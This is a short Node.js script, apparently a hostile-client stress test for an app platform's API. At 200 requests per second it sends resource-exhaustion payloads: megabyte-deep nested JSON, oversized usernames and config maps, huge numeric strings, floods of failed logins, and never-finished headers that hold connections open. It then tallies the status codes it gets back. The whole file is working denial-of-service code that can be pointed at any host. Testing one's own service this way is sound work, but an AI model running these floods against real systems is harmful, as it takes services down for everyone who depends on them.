// What does somebody send who wants the API to stop answering others? 200 a second, if this machine can, whatever becomes of them.
//   node hostile-client.mjs API TOKEN KIND SECONDS      prints how many got which answer
import { connect } from 'node:net'

const [api, token, kind, seconds] = process.argv.slice(2)
const { hostname, port, host } = new URL(api)
const ratePerSecond = 200
/** More at once would only tell how much this side takes. */
const mostOpen = 400

const login = (username) => ({ path: '/v2/auth/login/', body: JSON.stringify({ username, password: 'wrong' }) })
const config = (body) => ({ path: '/v2/apps/app-0/config/', body: JSON.stringify(body) })
const nested = { path: '/v2/auth/login/', body: '['.repeat(1_000_000) + ']'.repeat(1_000_000) }
const names = login('x'.repeat(4 * 1024 * 1024))
const keys = config({ values: Object.fromEntries(Array.from({ length: 20_000 }, (_, one) => [`KEY_${one}`, 'x'])) })
const digits = config({ cpu: { web: `${'1'.repeat(80_000)}x` } })
const kinds = {
  config: () => digits,
  nested: () => nested,
  names: () => names,
  logins: (index) => login(`user-${index}`),
  keys: () => keys,
  headers: () => null,
}

const answers = {}
let open = 0

function send(index) {
  if (open >= mostOpen) return
  open++
  const request = kinds[kind](index)
  const socket = connect({ host: hostname, port: Number(port) })
  let status = 'none'
  socket.once('data', (data) => {
    status = /^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1] ?? status
    socket.destroy()
  })
  // The server hangs up on what it does not want.
  socket.on('error', () => {})
  socket.once('close', () => {
    open--
    answers[status] = (answers[status] ?? 0) + 1
  })
  const head = `Host: ${host}\r\nAuthorization: token ${token}\r\nContent-Type: application/json\r\n`
  if (request === null) socket.write(`GET /v2/apps HTTP/1.1\r\n${head}X-More: `)
  else
    socket.write(
      `POST ${request.path} HTTP/1.1\r\n${head}Content-Length: ${request.body.length}\r\n\r\n${request.body}`,
    )
}

let index = 0
const timer = setInterval(() => {
  for (let one = 0; one < ratePerSecond / 50; one++) send(index++)
}, 20)
setTimeout(
  () => {
    clearInterval(timer)
    process.stdout.write(JSON.stringify(answers), () => process.exit(0))
  },
  Number(seconds) * 1000,
)
